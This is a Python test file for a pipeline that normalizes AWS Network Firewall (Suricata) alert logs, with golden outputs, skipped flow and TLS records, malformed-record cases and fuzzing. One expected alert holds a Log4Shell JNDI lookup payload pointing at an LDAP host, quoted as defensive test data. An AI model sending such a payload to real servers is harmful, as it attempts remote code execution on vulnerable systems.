"""AWS Network Firewall alert logs (Suricata EVE inside): golden alerts, skips, malformed records, fuzz."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings

from pipeline.normalize.base import Skipped

from ._cloud import assert_bad, edit, golden, records, whole
from .conftest import check_contract, detect, json_mutated, mutated, normalize_one

FMT = "aws_nfw"
RECS = records(FMT)
DOC_ALERT, MINER_DROP, LOG4J_HTTP, NETFLOW, TLS = RECS
SOURCE = {"product": "AWS Network Firewall", "vendor": "Amazon Web Services", "family": "firewall",
          "format": FMT}


def test_documented_alert_example():
    rule = {"id": "5", "name": "test_tcp", "category": "", "severity": "1"}
    assert golden(FMT, DOC_ALERT) == {
        "source": SOURCE, "time": "2020-10-13T22:10:01.006481Z", "severity": {"label": "high", "score": 75},
        "rule": rule, "rules": [rule], "action": "detected",
        "message": "AWS Network Firewall detected 203.0.113.4 -> 192.0.2.16: test_tcp (5)",
        "src": {"ip": "203.0.113.4", "port": 55555}, "dst": {"ip": "192.0.2.16", "port": 111},
        "host": {"name": "test-firewall"}, "network": {"proto": "tcp"},
        "extra": {"signature_id": 5, "rev": 0, "flow_id": 1582438383425873, "firewall_name": "test-firewall",
                  "availability_zone": "us-east-1b"},
    }


def test_http_alert_with_cve_metadata():
    name = "ET EXPLOIT Apache log4j RCE Attempt (http uri) (CVE-2021-44228)"
    rule = {"id": "2034647", "name": name, "category": "Attempted Administrator Privilege Gain",
            "severity": "1"}
    assert golden(FMT, LOG4J_HTTP) == {
        "source": SOURCE, "time": "2025-11-24T16:32:05.882014Z", "severity": {"label": "high", "score": 75},
        "rule": rule, "rules": [rule], "action": "detected",
        "message": f"AWS Network Firewall detected 198.51.100.23 -> 10.0.1.20: {name} (2034647)",
        "src": {"ip": "198.51.100.23", "port": 51544},
        "dst": {"ip": "10.0.1.20", "port": 80, "hostname": "shop.example.com"},
        "http": {"method": "GET", "url": "/?x=${jndi:ldap://198.51.100.23:1389/a}",
                 "host": "shop.example.com", "user_agent": "Mozilla/5.0"},
        "host": {"name": "prod-ingress-fw"}, "network": {"proto": "tcp"}, "attack": ["T1190"],
        "extra": {"cve": "CVE-2021-44228", "signature_id": 2034647, "rev": 2, "app_proto": "http",
                  "flow_id": 2011427365412551, "firewall_name": "prod-ingress-fw",
                  "availability_zone": "eu-west-1b"},
    }


def test_drop_rule_is_blocked_with_attack_ids():
    d = golden(FMT, MINER_DROP)
    assert (d["action"], d["rule"]["id"], d["attack"], d["host"]) == (
        "blocked", "2024792", ["T1496"], {"name": "prod-egress-fw"})
    assert (d["src"]["ip"], d["dst"]["port"], d["extra"]["mitre_tactic_id"]) == ("10.0.12.57", 3333, "TA0040")


@pytest.mark.parametrize(("line", "reason"), [(NETFLOW, "netflow"), (TLS, "tls")])
def test_flow_and_tls_logs_are_skipped(line, reason):
    with pytest.raises(Skipped) as e:
        normalize_one(FMT, line)
    assert e.value.reason == reason


def test_detected_before_suricata():
    """The wrapped EVE event would satisfy Suricata's sniff; the firewall envelope must win."""
    assert {detect(line) for line in RECS} == {FMT}


def test_whole_fixture_file():
    r = whole(FMT)
    assert (r.records, len(r.alerts), len(r.dead)) == (5, 3, 0)
    assert dict(r.skipped) == {"aws_nfw:netflow": 1, "aws_nfw:tls": 1}
    assert [a.action for a in r.alerts] == ["detected", "blocked", "detected"]


@pytest.mark.parametrize(("change", "reason", "field"), [
    (lambda d: d.pop("firewall_name"), "missing_field", "firewall_name"),
    (lambda d: d.pop("event"), "missing_field", "event"),
    (lambda d: d.update(event="alert"), "bad_field", "event"),
    (lambda d: d["event"].pop("event_type"), "missing_field", "event.event_type"),
    (lambda d: d["event"].pop("alert"), "missing_field", "event.alert"),
    (lambda d: d["event"]["alert"].pop("signature_id"), "missing_field", "event.alert.signature_id"),
    (lambda d: d["event"].pop("timestamp"), "missing_field", "event.timestamp"),
    (lambda d: d["event"].update(timestamp="13/10/2020"), "bad_timestamp", "event.timestamp"),
    (lambda d: d["event"].update(src_port="55555"), "bad_port", "event.src_port"),
])
def test_malformed_records_are_dead_letters(change, reason, field):
    assert_bad(FMT, edit(DOC_ALERT, change), reason, field)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated(RECS) | json_mutated(RECS))
def test_fuzz_only_alerts_skips_or_bad_records(text):
    check_contract(FMT, text)
